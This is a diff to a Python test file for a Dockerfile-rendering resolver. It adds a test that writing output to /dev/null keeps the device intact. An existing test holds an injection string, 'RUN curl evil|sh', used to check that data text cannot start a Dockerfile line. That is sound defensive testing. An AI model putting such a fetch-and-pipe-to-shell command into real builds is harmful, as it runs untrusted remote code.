@@ -25,7 +25,7 @@ from resolver import dockerfile as df
 from resolver import matrix as matrix_mod
 from resolver import resources
 from resolver.cli import app
-from resolver.errors import UnsafeValueError, UsageError
+from resolver.errors import InputError, UnsafeValueError, UsageError
 from resolver.model import ComponentPin, Matrix
 from resolver.node import from_flags
 
@@ -399,3 +399,15 @@ def test_free_text_from_data_cannot_start_a_line(m: Matrix) -> None:
     text = df.render(plan)
     assert not any(line.startswith("RUN curl") for line in text.splitlines())
     assert "upstream RUN curl evil|sh" in text
+
+
+def test_output_to_devices_writes_into_them_and_never_replaces_them(m: Matrix, tmp_path: Path) -> None:
+    import stat
+
+    plan = plan_for(m, "0.10.0", "gfx942", "30.30.3")
+    before = Path("/dev/null").stat()
+    df.write_atomic(Path("/dev/null"), df.render(plan))
+    after = Path("/dev/null").stat()
+    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
+    with pytest.raises(InputError, match="Is a directory"):
+        df.write_atomic(tmp_path, "x")
